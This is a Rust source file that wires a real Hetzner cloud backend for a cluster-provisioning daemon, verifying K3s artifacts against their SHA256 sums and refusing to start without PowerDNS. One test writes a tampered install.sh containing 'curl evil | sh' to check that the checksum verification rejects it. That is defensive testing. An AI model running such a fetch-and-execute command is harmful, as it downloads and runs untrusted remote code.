//! The `hetzner` backend's wiring: every adapter real. Nothing here may
//! name the sim crate (a test below and `.ci/run`'s layout stage check):
//! a system the backend needs and the config lacks stops the daemon with
//! its name, rather than being simulated.

use std::sync::Arc;

use anyhow::Context;
use cz_adapters::cloud::{BudgetRegistry, HcloudClient, ProjectQuota};
use cz_adapters::dns::default_public_resolvers;
use cz_adapters::kube::KubeClient;
use cz_adapters::openbao::OpenBaoClient;
use cz_adapters::ssh::SshClient;
use cz_adapters::tofu::TofuCli;
use cz_adapters::{Backend, Bounds, InfraModule, K3sSource};

use super::{http_registrars, powerdns};
use crate::config::{Config, ModuleKind};

/// The `hetzner` backend: the real Hetzner API client and tofu runner.
///
/// OpenBao is reached through each cluster's API server (its pods' proxy).
/// DNS is the real PowerDNS of `[powerdns]`, which it cannot start
/// without: no simulated adapter stands in on a real backend, where a
/// propagation gate "passing" against sim data would be a lie.
pub fn hetzner_backend(config: &Config) -> anyhow::Result<Backend> {
    let dns = powerdns(config)?.ok_or_else(|| {
        anyhow::anyhow!(
            "the hetzner backend needs a [powerdns] section (api_url, server_id, dns_address; \
             the key in CATALYST_ZERO_POWERDNS_API_KEY): the Sovereign's zone and its \
             delegation are served by a real PowerDNS, never simulated (examples/hetzner.toml)"
        )
    })?;
    let h = &config.hetzner;
    let k3s = match (&h.artifacts_dir, &h.k3s_download) {
        // Every artifact checked against its SHA256SUMS line before the
        // daemon starts, as the cluster phase checks it again before
        // uploading.
        (Some(dir), _) => {
            cz_phases::cluster::verified_artifacts(dir).map_err(|e| {
                anyhow::anyhow!("hetzner.artifacts_dir {} cannot be used: {e}", dir.display())
            })?;
            K3sSource::AirGap { dir: dir.clone() }
        }
        (None, Some(d)) => K3sSource::Download {
            script_url: d.script_url.clone(),
            script_sha256: d.script_sha256.to_ascii_lowercase(),
            release_url: d.release_url.clone(),
        },
        (None, None) => anyhow::bail!(
            "the hetzner backend needs K3s: hetzner.artifacts_dir (k3s, install.sh, SHA256SUMS) \
             or [hetzner.k3s_download]; it never simulates it"
        ),
    };
    let q = h.quota;
    let cloud = HcloudClient::new(&h.api_url, BudgetRegistry::global())
        .map_err(|e| anyhow::anyhow!("{e}"))?
        .with_quota(ProjectQuota {
            servers: q.servers,
            load_balancers: q.load_balancers,
            networks: q.networks,
            placement_groups: q.placement_groups,
        });
    let tofu = TofuCli::new(
        &h.tofu_binary,
        config.data_dir.join("tofu-plugin-cache"),
        std::time::Duration::from_secs(h.tofu_timeout_secs),
    );
    let templates = std::path::absolute(h.templates_dir.join(h.module_dir()))
        .context("cannot resolve hetzner.templates_dir")?;
    let infra = match h.module {
        ModuleKind::Hcloud => {
            InfraModule::Hcloud { templates, provisioner_cidrs: h.provisioner_cidrs.clone() }
        }
        ModuleKind::Offline => InfraModule::Offline {
            templates,
            // The module's provisioners run this very binary's `hcloud-shim`.
            shim: std::env::current_exe().context("cannot find the daemon's own binary")?,
            endpoint: h.api_url.clone(),
        },
    };
    Ok(Backend {
        name: "hetzner".into(),
        cloud: Arc::new(cloud),
        tofu: Arc::new(tofu),
        ssh: Arc::new(SshClient::default()),
        kube: Arc::new(KubeClient),
        bao: Arc::new(OpenBaoClient::default()),
        dns,
        // The production registrar APIs unless [registrars] says otherwise.
        registrars: http_registrars(Default::default()),
        workspace_root: config.shared_dir.as_ref().unwrap_or(&config.data_dir).join("workspaces"),
        infra,
        k3s,
        ssh_port: h.ssh_port,
        bounds: Bounds {
            host_boot: std::time::Duration::from_secs(h.host_boot_secs),
            ..Default::default()
        },
        poll: std::time::Duration::from_millis(h.poll_millis),
        public_resolvers: default_public_resolvers(),
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The wiring names no simulated adapter: not the sim crate, not the
    /// simulated K3s source.
    #[test]
    fn no_sim_adapter_is_reachable_from_the_hetzner_wiring() {
        let src = include_str!("hetzner.rs");
        let code = &src[..src.find("#[cfg(test)]").unwrap_or(src.len())];
        for banned in
            [concat!("cz", "_sim"), concat!("K3sSource::", "Simulated"), concat!("Sim", "Dns")]
        {
            assert!(!code.contains(banned), "the hetzner wiring names {banned}");
        }
    }

    const PDNS: &str =
        "[powerdns]\napi_url = \"http://127.0.0.1:9\"\ndns_address = \"127.0.0.1:53\"\n";

    /// An air-gap directory: `k3s` and `install.sh` with their SHA256SUMS.
    fn artifacts() -> tempfile::TempDir {
        let d = tempfile::tempdir().unwrap();
        let mut sums = String::new();
        for (name, body) in [("k3s", "k3s binary"), ("install.sh", "#!/bin/sh\n")] {
            std::fs::write(d.path().join(name), body).unwrap();
            let sha = hex::encode(<sha2::Sha256 as sha2::Digest>::digest(body.as_bytes()));
            sums.push_str(&format!("{sha}  {name}\n"));
        }
        std::fs::write(d.path().join("SHA256SUMS"), sums).unwrap();
        d
    }

    fn hetzner(extra: &str) -> Config {
        let text = format!(
            "backend = \"hetzner\"\n[hetzner]\napi_url = \"http://127.0.0.1:9\"\n\
             module = \"offline\"\ntemplates_dir = \"{}/../cloud-templates\"\n{extra}",
            env!("CARGO_MANIFEST_DIR")
        );
        Config::from_toml(&text).expect("the config parses")
    }

    fn with_artifacts(dir: &std::path::Path, rest: &str) -> Config {
        let mut c = hetzner(rest);
        c.hetzner.artifacts_dir = Some(dir.to_owned());
        c
    }

    /// A `hetzner` backend without PowerDNS does not start, and says what
    /// is missing; no simulated DNS stands in.
    #[test]
    fn a_hetzner_backend_without_powerdns_is_refused_naming_it() {
        let a = artifacts();
        let e = hetzner_backend(&with_artifacts(a.path(), "")).err().expect("refused");
        let msg = e.to_string();
        assert!(msg.contains("[powerdns]") && msg.contains("never simulated"), "{msg}");
    }

    /// Nor without K3s, nor with an artifact that is not what its sums say.
    #[test]
    fn a_hetzner_backend_without_sound_k3s_artifacts_is_refused_naming_them() {
        let e = hetzner_backend(&hetzner(PDNS)).err().expect("refused").to_string();
        assert!(e.contains("hetzner.artifacts_dir") && e.contains("never simulates"), "{e}");
        let a = artifacts();
        std::fs::write(a.path().join("install.sh"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
        let e = hetzner_backend(&with_artifacts(a.path(), PDNS)).err().expect("refused");
        let e = e.to_string();
        assert!(e.contains("install.sh") && e.contains("corrupted or replaced"), "{e}");
    }

    #[test]
    fn a_hetzner_backend_with_every_system_configured_starts_on_real_adapters() {
        let a = artifacts();
        let b = hetzner_backend(&with_artifacts(a.path(), PDNS)).expect("built");
        assert_eq!(b.name, "hetzner");
        assert!(matches!(b.k3s, K3sSource::AirGap { .. }), "{:?}", b.k3s);
    }
}
